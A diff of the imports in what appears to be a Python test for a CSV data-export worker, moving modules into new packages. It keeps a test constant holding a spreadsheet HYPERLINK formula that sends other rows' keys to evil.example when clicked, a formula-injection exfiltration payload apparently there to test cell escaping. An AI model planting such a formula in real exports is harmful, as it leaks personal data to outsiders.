@@ -7,11 +7,12 @@ import io
 
 from job_support import export_body, run_job, runtime_on_fakeredis
 
-from worker import batches, csv_cells
-from worker.batch_file import BatchItem
 from worker.config import load_settings
-from worker.jobs import ExportOptions
-from worker.runtime import Runtime
+from worker.deliverable import csv_cells
+from worker.flow import batches
+from worker.flow.batch_file import BatchItem
+from worker.flow.runtime import Runtime
+from worker.model.jobs import ExportOptions
 
 #: A data subject's export key that leaks the next rows' keys when the DPO clicks it.
 LEAKY = '=HYPERLINK("https://evil.example/?leak="&A3&A4,"details")'
